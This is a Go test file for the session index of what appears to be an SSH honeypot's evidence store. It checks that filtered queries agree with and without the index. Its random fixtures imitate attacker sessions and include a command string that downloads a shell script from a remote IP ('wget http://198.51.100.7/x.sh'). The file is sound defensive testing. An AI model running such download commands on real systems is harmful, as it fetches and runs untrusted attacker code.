package index

import (
	"context"
	"encoding/hex"
	"fmt"
	"math/rand/v2"
	"net/netip"
	"os"
	"path/filepath"
	"slices"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/google/go-cmp/cmp/cmpopts"
	"github.com/hashicorp/go-hclog"
	"github.com/oklog/ulid/v2"

	"github.com/sandtrap/sandtrap/internal/evidence"
)

// march is when the sessions of these tests begin.
var march = time.Date(2026, 3, 30, 22, 0, 0, 0, time.UTC)

func ok(t testing.TB, err error) {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
}

func openStore(t testing.TB, state string) *evidence.Store {
	t.Helper()
	s, err := evidence.Open(state)
	ok(t, err)
	t.Cleanup(func() { s.Close() })
	return s
}

func idAt(start time.Time, n uint64) string {
	var id ulid.ULID
	_ = id.SetTime(ulid.Timestamp(start))
	for i := range 8 {
		id[15-i] = byte(n >> (8 * i))
	}
	return id.String()
}

func pick[T any](r *rand.Rand, from ...T) T { return from[r.IntN(len(from))] }

func text(r *rand.Rand) evidence.Text {
	return evidence.Text(pick(r, "root", "admin", "", "wget http://198.51.100.7/x.sh", "\xff\xfe\x00", "uname -a", "héllo\x1b[31m", "cat /proc/cpuinfo", "ро́от"))
}

func hash(r *rand.Rand) string {
	b := make([]byte, 32)
	for i := range b {
		b[i] = byte(r.IntN(2)) // many begin the same
	}
	return hex.EncodeToString(b)
}

// randomSession is a session with anything that filters look at.
func randomSession(r *rand.Rand, n int) evidence.Session {
	start := march.Add(time.Duration(r.IntN(3*24*3600)) * time.Second)
	s := evidence.Session{
		ID: idAt(start, uint64(n)), Start: start, State: pick(r, evidence.StateClosed, evidence.StateClosed, evidence.StateClosed, evidence.StateRecovered, evidence.StateRecovered, evidence.StateOpen),
		Source: evidence.Endpoint{IP: pick(r, "192.0.2.1", "192.0.2.77", "198.51.100.3", "2001:db8::5", "::ffff:192.0.2.9", "fe80::1%eth0", "", "nonsense"), Port: 22},
		Login:  evidence.Login{User: text(r), Method: pick(r, "password", "publickey", "none", ""), Password: text(r), Fingerprint: pick(r, "", "SHA256:one", "SHA256:two")},
		Target: evidence.Target{Name: pick(r, "", "debian", "router")}, ClientVersion: text(r), HASSH: pick(r, "", "aa", "bb"),
	}
	if s.State != evidence.StateOpen {
		end := start.Add(time.Duration(r.IntN(600)-5) * time.Second)
		s.End = &end
	}
	for range r.IntN(4) {
		s.Attempts = append(s.Attempts, evidence.Attempt{User: text(r), Method: "password", Password: text(r), Fingerprint: pick(r, "", "SHA256:three")})
	}
	for i := range r.IntN(3) {
		c := evidence.Channel{ID: i, Kind: pick(r, "shell", "exec"), Command: text(r)}
		for range r.IntN(3) {
			c.Commands = append(c.Commands, evidence.Command{Text: text(r)})
			c.Transfers = append(c.Transfers, evidence.Transfer{Name: text(r), SHA256: pick(r, "", hash(r)), Artifact: pick(r, "", hash(r), "nonsense"), Time: start})
		}
		s.Channels = append(s.Channels, c)
	}
	if r.IntN(4) == 0 {
		s.Forwards = []evidence.Forward{{Destination: text(r), DestinationPort: 80}}
	}
	return s
}

// put writes a session, and what was captured after it.
func put(t testing.TB, store *evidence.Store, s evidence.Session, capture string) {
	t.Helper()
	d, err := store.Create(s.ID, s.Start)
	ok(t, err)
	save(t, d, s, capture)
}

func save(t testing.TB, d *evidence.Dir, s evidence.Session, capture string) {
	t.Helper()
	ok(t, d.Save(s))
	if capture != "" {
		f, err := d.Root().Create(evidence.CaptureFile)
		ok(t, err)
		_, err = f.WriteString(capture)
		ok(t, err)
		ok(t, f.Close())
	}
	ok(t, d.Close())
}

// fill makes n random sessions.
func fill(t testing.TB, store *evidence.Store, r *rand.Rand, n int) []evidence.Session {
	t.Helper()
	var all []evidence.Session
	for i := range n {
		s := randomSession(r, i)
		capture := ""
		if r.IntN(3) == 0 {
			capture = fmt.Sprintf("{\"kind\":\"process\"}\nnonsense\n{\"kind\":\"file\",\"path\":\"/tmp/x\",\"sha256\":%q}\n{\"path\":{\"base64\":\"/w==\"},\"sha256\":%q}\n", hash(r), hash(r))
		}
		put(t, store, s, capture)
		all = append(all, s)
	}
	return all
}

func randomFilter(r *rand.Rand) Filter {
	f := Filter{Now: march.Add(80 * time.Hour)}
	some := func(set func()) {
		if r.IntN(5) == 0 {
			set()
		}
	}
	some(func() { f.Since = march.Add(time.Duration(r.IntN(72)) * time.Hour) })
	some(func() { f.Until = march.Add(time.Duration(r.IntN(72)) * time.Hour) })
	some(func() {
		f.Source = []netip.Prefix{netip.MustParsePrefix(pick(r, "192.0.2.0/24", "198.51.100.3/32", "2001:db8::/32", "fe80::/10", "0.0.0.0/0"))}
	})
	some(func() { u := string(text(r)); f.User = &u })
	some(func() { p := string(text(r)); f.Password = &p })
	some(func() { f.Key = pick(r, "SHA256:one", "SHA256:three", "SHA256:none") })
	some(func() { f.Command = pick(r, "wget", "\xfe", "\x00", "x", "absent", "é") })
	some(func() { f.Artifact = hash(r)[:2+r.IntN(12)] })
	some(func() { f.Target = pick(r, "debian", "router", "none") })
	some(func() { f.MinDuration = time.Duration(r.IntN(600)) * time.Second })
	some(func() { f.MaxDuration = time.Duration(r.IntN(600)) * time.Second })
	some(func() { f.Live = true })
	return f
}

var same = cmp.Options{cmpopts.EquateEmpty(), cmpopts.IgnoreUnexported(Entry{})}

// requireEach visits instead of asking.
func requireEach(t *testing.T, store *evidence.Store, f Filter, want []*Entry) {
	t.Helper()
	var got []*Entry
	_, err := Each(context.Background(), store, f, func(e *Entry) {
		own := *e
		own.Users, own.Passwords, own.Keys = slices.Clone(e.Users), slices.Clone(e.Passwords), slices.Clone(e.Keys)
		own.Commands, own.Files = slices.Clone(e.Commands), slices.Clone(e.Files)
		got = append(got, &own)
	})
	ok(t, err)
	byID := cmpopts.SortSlices(func(a, b *Entry) bool { return a.ID < b.ID })
	if diff := cmp.Diff(want, got, same, byID, cmpopts.IgnoreFields(Entry{}, "Dir")); diff != "" {
		t.Fatalf("filter %+v: want, visited:\n%s", f, diff)
	}
}

// requireSame asks with and without the index and returns the answer with it.
func requireSame(t *testing.T, store *evidence.Store, f Filter, o Options) Result {
	t.Helper()
	o.Lists = true
	with, err := Query(context.Background(), store, f, o)
	ok(t, err)
	o.NoIndex = true
	without, err := Query(context.Background(), store, f, o)
	ok(t, err)
	if diff := cmp.Diff(without.Entries, with.Entries, same); diff != "" {
		t.Fatalf("filter %+v: without and with the index:\n%s", f, diff)
	}
	if o.Limit == 0 {
		requireEach(t, store, f, without.Entries)
	}
	return with
}

// TestSameAnswers: an index of any state and the sessions themselves give the same
// answer to any question.
func TestSameAnswers(t *testing.T) {
	r := rand.New(rand.NewPCG(1, 2))
	state := t.TempDir()
	store := openStore(t, state)
	fill(t, store, r, 40)
	ask := func(step string) {
		t.Helper()
		requireSame(t, store, randomFilter(r), Options{})
		all, err := Query(context.Background(), store, Filter{}, Options{NoIndex: true})
		ok(t, err)
		found := 0
		for range 50 {
			f, limit := randomFilter(r), pick(r, 0, 0, 3, 20)
			var want []*Entry
			for i := range all.Entries {
				if f.Matches(all.Entries[i]) {
					want = append(want, all.Entries[i])
				}
			}
			if limit > 0 && len(want) > limit {
				want = want[len(want)-limit:]
			}
			got, err := Query(context.Background(), store, f, Options{Limit: limit, Lists: true})
			ok(t, err)
			if diff := cmp.Diff(want, got.Entries, same); diff != "" {
				t.Fatalf("%s: filter %+v: want, got:\n%s", step, f, diff)
			}
			found += len(want)
			if limit == 0 {
				requireEach(t, store, f, want)
			}
		}
		if found < 50 {
			t.Errorf("%s: only %d sessions in all answers", step, found)
		}
	}
	ask("no index")
	n, problems, err := Rebuild(context.Background(), store, nil)
	if err != nil || len(problems) != 0 || n == 0 || n == 40 {
		t.Fatalf("%d sessions, %v, %v", n, problems, err)
	}
	ask("a new index")
	if q := requireSame(t, store, Filter{}, Options{}); q.Read != 0 || q.Index != nil || len(q.Entries) != 40 {
		t.Errorf("%d entries, %d read, %v", len(q.Entries), q.Read, q.Index)
	}
	for i := range 8 {
		put(t, store, randomSession(r, 1000+i), "")
	}
	ask("sessions that it lacks")
	first, err := Query(context.Background(), store, Filter{}, Options{Limit: 5})
	ok(t, err)
	for _, e := range first.Entries {
		ok(t, os.RemoveAll(filepath.Join(state, e.Dir)))
	}
	ask("sessions that are gone")
}

// TestWhatAFilterMeans holds each filter to one session.
func TestWhatAFilterMeans(t *testing.T) {
	sum := "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef"
	end := march.Add(time.Minute)
	e := Summarise("d", evidence.Session{
		ID: idAt(march, 1), State: evidence.StateClosed, Start: march, End: &end, Source: evidence.Endpoint{IP: "192.0.2.7"},
		Login:    evidence.Login{User: "root", Method: "password", Password: "in"},
		Attempts: []evidence.Attempt{{User: "oracle", Method: "password", Password: ""}, {User: "root", Method: "publickey", Fingerprint: "SHA256:k"}},
		Target:   evidence.Target{Name: "debian"},
		Channels: []evidence.Channel{{Kind: "exec", Command: "uname -a", Commands: []evidence.Command{{Text: "Wget x"}}, Transfers: []evidence.Transfer{{SHA256: sum}}}},
	}, []File{{SHA256: "ff" + sum[2:], Name: "/tmp/y"}})
	s := func(s string) *string { return &s }
	nets := func(p string) []netip.Prefix { return []netip.Prefix{netip.MustParsePrefix(p)} }
	for _, c := range []struct {
		name string
		f    Filter
		want bool
	}{
		{"all", Filter{}, true},
		{"since its start", Filter{Since: march}, true},
		{"since later", Filter{Since: march.Add(1)}, false},
		{"until its start", Filter{Until: march}, false},
		{"until later", Filter{Until: march.Add(1)}, true},
		{"network", Filter{Source: nets("192.0.2.0/24")}, true},
		{"other network", Filter{Source: nets("198.51.100.0/24")}, false},
		{"user that logged in", Filter{User: s("root")}, true},
		{"user that was refused", Filter{User: s("oracle")}, true},
		{"part of a user", Filter{User: s("roo")}, false},
		{"password", Filter{Password: s("in")}, true},
		{"empty password that was tried", Filter{Password: s("")}, true},
		{"password never tried", Filter{Password: s("x")}, false},
		{"key", Filter{Key: "SHA256:k"}, true},
		{"other key", Filter{Key: "SHA256:"}, false},
		{"part of a command", Filter{Command: "name"}, true},
		{"part of a typed line", Filter{Command: "get x"}, true},
		{"other case", Filter{Command: "wget"}, false},
		{"artifact that was sent", Filter{Artifact: "0123"}, true},
		{"artifact that was captured", Filter{Artifact: "ff23"}, true},
		{"other artifact", Filter{Artifact: "1123"}, false},
		{"target", Filter{Target: "debian"}, true},
		{"other target", Filter{Target: "deb"}, false},
		{"as long as it took", Filter{MinDuration: time.Minute, MaxDuration: time.Minute}, true},
		{"longer", Filter{MinDuration: time.Minute + 1}, false},
		{"shorter", Filter{MaxDuration: time.Minute - 1}, false},
		{"live", Filter{Live: true}, false},
		{"one of two", Filter{User: s("root"), Command: "absent"}, false},
	} {
		if got := c.f.Matches(&e); got != c.want {
			t.Errorf("%s: %v", c.name, got)
		}
	}
}

// TestOverlong: what does not fit into the index is found all the same.
func TestOverlong(t *testing.T) {
	store := openStore(t, t.TempDir())
	s := evidence.Session{ID: idAt(march, 1), Start: march, End: &march, State: evidence.StateClosed, Target: evidence.Target{Name: "debian"}}
	for i := range 4000 {
		s.Channels = append(s.Channels, evidence.Channel{Kind: "exec", Command: evidence.Text(fmt.Sprintf("echo %d and some more words that take space", i))})
	}
	put(t, store, s, "")
	name := slices.Repeat([]byte("u"), maxRecord)
	put(t, store, evidence.Session{ID: idAt(march, 2), Start: march, End: &march, State: evidence.StateClosed, Login: evidence.Login{User: evidence.Text(name), Method: "none"}}, "")
	n, problems, err := Rebuild(context.Background(), store, nil)
	if n != 1 || len(problems) != 1 || err != nil {
		t.Fatalf("%d, %v, %v", n, problems, err)
	}
	st, err := os.Stat(filepath.Join(store.Path(), directory, fileName))
	if err != nil || st.Size() > 4096 {
		t.Errorf("size %d, %v", st.Size(), err)
	}
	user := string(name)
	for want, f := range map[int]Filter{2: {}, 1: {Command: "echo 3999 and"}, 0: {Command: "echo 4000 and"}} {
		if q := requireSame(t, store, f, Options{}); len(q.Entries) != want {
			t.Errorf("%+v: %d sessions", f, len(q.Entries))
		}
	}
	if q := requireSame(t, store, Filter{User: &user}, Options{}); len(q.Entries) != 1 {
		t.Errorf("%d with the long name", len(q.Entries))
	}
}

func quiet() hclog.Logger { return hclog.NewNullLogger() }
